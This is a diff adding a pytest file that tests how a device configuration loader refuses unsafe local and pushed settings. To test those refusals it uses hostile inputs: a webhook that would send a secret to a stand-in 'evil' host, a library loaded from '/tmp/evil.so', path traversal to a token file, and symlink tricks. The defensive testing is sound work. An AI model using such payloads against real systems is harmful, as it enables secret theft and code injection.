@@ -1,0 +1,154 @@
+"""What a device's own file allows, and what a push can't lower."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from edgepose.config.limits import DEFAULTS, commands_of
+from edgepose.config.loader import Config, loads
+from edgepose.config.pushed import accept_pushed
+from edgepose.errors import ConfigError
+
+TEXT = """\
+version: 1
+name: lobby
+source: {type: synthetic}
+outputs:
+  log: {type: jsonl, path: events.jsonl}
+  bus: {type: mqtt, host: broker, remote: true}
+"""
+
+
+@pytest.fixture
+def file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Return where the configuration is; the state folder is beside it."""
+    monkeypatch.setenv("STATE_DIRECTORY", str(tmp_path / "state"))
+    folder = tmp_path / "etc"
+    (folder / "templates").mkdir(parents=True)
+    path = folder / "lobby.yaml"
+    path.write_text(TEXT)
+    return path
+
+
+def pushed(file: Path, text: str, own: str = TEXT, **environ: str) -> Config:
+    """Return the configuration of a pushed text. Raises ConfigError."""
+    now = loads(own, file, (), environ)
+    return accept_pushed(text, now, lambda text: loads(text, file, (), environ))[1]
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "lobby.yaml", "templates/x.jsonl", "other.yaml", "../state/last-good/config.json",
+        "../state/outbox/x", "../state/web-token", "../state/pushes/x.json", "link", ".",
+    ],
+)  # fmt: skip
+@pytest.mark.parametrize("kind", ["jsonl", "recording", "video"])
+def test_no_output_writes_to_what_is_edgeposes_own(file: Path, path: str, kind: str):
+    """Configuration, definitions, state and token, also through a link."""
+    (file.parent / "link").symlink_to(file)
+    with pytest.raises(ConfigError, match=r"outputs\.bad"):
+        loads(f"{TEXT}  bad: {{type: {kind}, path: {path}}}\n", file)
+
+
+def test_a_link_to_a_folder_is_followed(file: Path):
+    """A folder elsewhere that leads to the templates is refused as well."""
+    (file.parent / "logs").symlink_to(file.parent / "templates")
+    with pytest.raises(ConfigError, match="own files"):
+        loads(TEXT.replace("events.jsonl", "logs/events.jsonl"), file)
+
+
+@pytest.mark.parametrize(
+    ("limits", "line", "said"),
+    [
+        ("folders: [/srv]", "x: {type: memory}", "limits.folders"),
+        ("hosts: [10.0.0.*]", "x: {type: webhook, url: 'http://evil.example/'}", "limits.hosts"),
+        ("max_on: 5", "x: {type: gpio, line: 4, chip: fake, when: person}", "max_on"),
+        ("max_on: 5", "x: {type: gpio, line: 4, chip: fake, when: person, max_on: 6}", "max_on"),
+    ],
+)
+def test_limits_hold_for_the_file_itself(file: Path, limits: str, line: str, said: str):
+    """A mistake with its line, as any other."""
+    with pytest.raises(ConfigError, match=said):
+        loads(f"limits: {{{limits}}}\n{TEXT}  {line}\n", file)
+
+
+@pytest.mark.parametrize(
+    ("own", "text", "said"),
+    [
+        ("frames: none\n", "frames: full\n", "frames"),
+        ("frames: skeleton\n", "frames: full\n", "frames"),
+        ("commands: [detect]\n", "commands: [detect, save]\n", "save"),
+        ("commands: false\n", "commands: [detect]\n", "detect"),
+        ("", "commands: [config]\n", "config"),
+        ("limits: {max_on: 5}\n", "limits: {max_on: 50}\n", "limits"),
+        ("limits: {max_on: 5}\n", "limits: {}\n", "limits"),
+        ("", "model: {library: /tmp/evil.so}\n", "library"),
+    ],
+)
+def test_a_push_can_not_lower_what_the_file_sets(file: Path, own: str, text: str, said: str):
+    """It is refused with the place."""
+    with pytest.raises(ConfigError, match=said):
+        pushed(file, text + TEXT, own + TEXT)
+
+
+def test_what_a_push_leaves_out_stays(file: Path):
+    """One text for many devices: each keeps its own limits, commands and privacy."""
+    own = "frames: skeleton\ncommands: [detect]\nlimits: {max_on: 5}\n" + TEXT
+    config = pushed(file, TEXT, own)
+    assert config.frames == "skeleton"
+    assert config.commands == ("detect",)
+    assert config.limits.max_on == 5
+
+
+def test_a_pushed_output_writes_below_the_devices_own_folders_only(file: Path):
+    """What the file writes already may stay where it is."""
+    with pytest.raises(ConfigError, match="state folder"):
+        pushed(file, TEXT.replace("events.jsonl", "/tmp/x.jsonl"))
+    own = TEXT.replace("events.jsonl", "/tmp/x.jsonl")
+    assert pushed(file, own, own).outputs["log"].options.writes() == (Path("/tmp/x.jsonl"),)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "h: {type: webhook, url: 'http://evil/${SECRET}'}",
+        "l: {type: jsonl, path: '${SECRET}'}",
+        "m: {type: mqtt, host: b, client_id: '${SECRET}'}",
+        "m: {type: mqtt, host: b, topic_prefix: 'a$${x}${SECRET}'}",
+    ],
+)
+def test_a_pushed_variable_is_for_secrets_only(file: Path, line: str):
+    """Else a push could send any of them to anybody; and the answer has no value of one."""
+    with pytest.raises(ConfigError, match="passwords, tokens and secrets") as told:
+        pushed(file, f"{TEXT}  {line}\n", SECRET="hunter2x")
+    assert "hunter2x" not in str(told.value)
+
+
+def test_a_variable_that_stands_in_the_file_already_may_stay(file: Path):
+    """Here the camera's address; as a password it may be anywhere."""
+    own = TEXT.replace("{type: synthetic}", "{type: stream, url: 'rtsp://a:${PASS}@cam/x'}")
+    more = "  m: {type: mqtt, host: b, user: u, password: '${PASS}'}\n"
+    assert pushed(file, own + more, own, PASS="hunter2x").source.type == "stream"
+
+
+def test_an_answer_to_a_push_quotes_no_other_file(file: Path):
+    """A push can name any file as a template; its lines stay at home."""
+    secret = file.parent / "environment"
+    secret.write_text("root:hunter2x\n")
+    text = f"{TEXT}watch: {{a: {{template: {secret}}}}}\nlanguage: {secret}\n"
+    with pytest.raises(ConfigError, match="check-config on the device") as told:
+        pushed(file, text)
+    assert "hunter2x" not in str(told.value)
+
+
+def test_commands_have_defaults_by_the_kind_of_output():
+    """The broker's end with the run; the page saves; nobody pushes configurations unasked."""
+    assert commands_of(None, "mqtt") == set(DEFAULTS["mqtt"])
+    assert not {"save", "restart", "config"} & commands_of(None, "mqtt")
+    assert "save" in commands_of(None, "web")
+    assert "config" not in commands_of(None, "web")
+    assert commands_of(False, "web") == frozenset()
+    assert commands_of(("config",), "web") == {"config"}
